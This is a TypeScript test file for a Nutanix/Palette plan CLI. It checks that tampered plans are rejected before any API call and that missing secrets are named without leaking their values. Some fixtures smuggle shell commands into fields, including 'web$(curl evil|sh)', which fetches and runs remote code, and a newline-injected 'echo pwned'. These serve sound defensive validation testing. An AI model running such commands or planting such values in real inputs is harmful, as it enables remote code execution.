/**
 * Hand-edited and oversized plans through the CLI: exit 2 before any API call (the emulator's request
 * counter does not move); `plan` with a secret's variable unset exits 2 naming it, never its value; a
 * relative Credentials.fromFile path works from any working directory (Terraform's, or another).
 */
import { test } from "node:test";
import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as path from "node:path";
import { App } from "cdktf";
import { Credentials, PrismCentralAccount, NutanixStack } from "../../lib";
import { main } from "../../lib/handler/cli";
import { generationOf } from "../../lib/plan/canonical";
import type { Counters } from "../../lib/emulator";
import { tempDir } from "../helpers/emulator";
import { addCluster, addGateway, stackWithAccount } from "../helpers/nutanix-fixtures";
import { makePlan, withTarget } from "./fixtures";

async function cli(args: string[], env: NodeJS.ProcessEnv): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = "";
  let stderr = "";
  const saved = { ...process.env };
  for (const k of ["NUTANIX_USERNAME", "NUTANIX_PASSWORD", "NUTANIX_ENDPOINT", "PALETTE_API_KEY"]) delete process.env[k];
  Object.assign(process.env, env);
  try {
    const code = await main(args, { stdout: (t) => void (stdout += t), stderr: (t) => void (stderr += t), isTty: false });
    return { code, stdout, stderr };
  } finally {
    for (const k of Object.keys(process.env)) if (!(k in saved)) delete process.env[k];
    Object.assign(process.env, saved);
  }
}

type Mutable = { id: string; kind: string; spec: Record<string, unknown>; generation: string };

function edit(kind: string, change: (r: Mutable) => void): string {
  const plan = JSON.parse(JSON.stringify(makePlan())) as { resources: Mutable[] };
  const r = plan.resources.find((x) => x.kind === kind)!;
  change(r);
  r.generation = generationOf(r.spec as never);
  return JSON.stringify(plan);
}

test("hand-edited plans: shell in clusterName, newline in an id, replicas 1e9, deep nesting, invalid UTF-8 → exit 2, no API call", async () => {
  await withTarget({}, async ({ h, env }) => {
    const dir = await tempDir("npc-untrusted-");
    const e = { ...env, NUTANIX_ENDPOINT: h.emu.url };
    const files: Array<[string, string | Buffer, RegExp]> = [
      ["shell.json", edit("NodePool", (r) => void (r.spec.clusterName = "web$(curl evil|sh)")), /spec\.clusterName: expected a lowercase RFC 1123 label/],
      ["newline.json", edit("NodePool", (r) => void (r.id = "t1/web/cp\necho pwned")), /on one line/],
      ["replicas.json", edit("NodePool", (r) => void (r.spec.replicas = 1e9)), /expected at most 1000 replicas in one pool/],
      ["deep.json", `{"apiVersion":"nutanix-palette-cdk/v1alpha1","kind":"Plan","metadata":{"stack":"t1"},"resources":${"[".repeat(200)}${"]".repeat(200)}}`, /nested at most 64 levels deep/],
      ["utf8.json", Buffer.concat([Buffer.from('{"apiVersion":"'), Buffer.from([0xff, 0xfe]), Buffer.from('"}')]), /expected UTF-8 text, found an invalid byte sequence at byte 15/],
    ];
    const c0 = await h.admin<Counters>("GET", "/counters");
    for (const [name, contents, re] of files) {
      const file = path.join(dir, name);
      fs.writeFileSync(file, contents);
      for (const command of ["validate", "plan", "apply"]) {
        const r = await cli([command, "--plan", file], e);
        assert.equal(r.code, 2, `${command} ${name}: ${r.stderr}`);
        assert.match(r.stderr, re, `${command} ${name}`);
      }
    }
    assert.equal((await h.admin<Counters>("GET", "/counters")).total, c0.total, "no request reached the emulator");
  });
});

test("plan with a secret's variable unset: exit 2 naming the variable, never a value, before any API call; validate warns", async () => {
  await withTarget({}, async ({ h, env }) => {
    const { stack, pc } = stackWithAccount("t1", new App({ outdir: path.join(await tempDir("npc-ref-"), "out") }));
    addGateway(stack, pc, addCluster(stack, pc, "pcg-host"));
    const file = path.join(await tempDir("npc-ref-"), "nutanix-plan.json");
    fs.writeFileSync(file, JSON.stringify(stack.toPlan()));
    const e = { ...env, NUTANIX_ENDPOINT: h.emu.url };
    const c0 = await h.admin<Counters>("GET", "/counters");
    for (const command of ["plan", "apply"]) {
      const r = await cli([command, "--plan", file], e);
      assert.equal(r.code, 2, r.stderr);
      assert.match(r.stderr, /t1\/pcg: palette\.apiKey\.env: expected the environment variable PALETTE_API_KEY to be set/);
      assert.ok(!r.stderr.includes(h.emu.password));
    }
    assert.equal((await h.admin<Counters>("GET", "/counters")).total, c0.total);
    const v = await cli(["validate", "--plan", file], e);
    assert.equal(v.code, 0);
    assert.match(v.stderr, /warning: t1\/pcg: palette\.apiKey\.env: expected the environment variable PALETTE_API_KEY/);
    const set = await cli(["validate", "--plan", file, "--json"], { ...e, PALETTE_API_KEY: "k-123" });
    assert.deepEqual((JSON.parse(set.stdout) as { warnings: string[] }).warnings, []);
  });
});

test("a relative Credentials.fromFile path: recorded from the plan's directory, read from there under any working directory", async () => {
  await withTarget({}, async ({ h }) => {
    const project = await tempDir("npc-program-");
    fs.writeFileSync(path.join(project, "package.json"), JSON.stringify({ name: "dc-program" }));
    fs.mkdirSync(path.join(project, "secrets"));
    fs.writeFileSync(path.join(project, "secrets", "pc.json"), JSON.stringify({ username: h.emu.username, password: h.emu.password }));
    const cwd = process.cwd();
    let planFile: string;
    try {
      // As cdktf runs a program: in its project directory, writing into ./cdktf.out.
      process.chdir(project);
      const app = new App({ outdir: "cdktf.out" });
      const stack = new NutanixStack(app, "dc1");
      new PrismCentralAccount(stack, "pc", { endpoint: "pc.example.com", credentials: Credentials.fromFile("secrets/pc.json") });
      app.synth();
      planFile = path.join(project, "cdktf.out", "stacks", "dc1", "nutanix-plan.json");
      const plan = JSON.parse(fs.readFileSync(planFile, "utf8")) as { resources: { spec: { credentials?: unknown } }[] };
      assert.deepEqual(plan.resources[0]!.spec.credentials, { source: "file", path: "../../../secrets/pc.json" });
      // As Terraform runs the handler: in the stack directory; and from somewhere else entirely.
      for (const where of [path.dirname(planFile), await tempDir("npc-elsewhere-")]) {
        process.chdir(where);
        const r = await cli(["plan", "--plan", planFile, "--endpoint", h.emu.url, "--json", "--quiet"], {});
        assert.equal(r.code, 0, `${where}: ${r.stderr}`);
        assert.equal((JSON.parse(r.stdout) as { ok: boolean }).ok, true);
      }
    } finally {
      process.chdir(cwd);
    }
  });
});
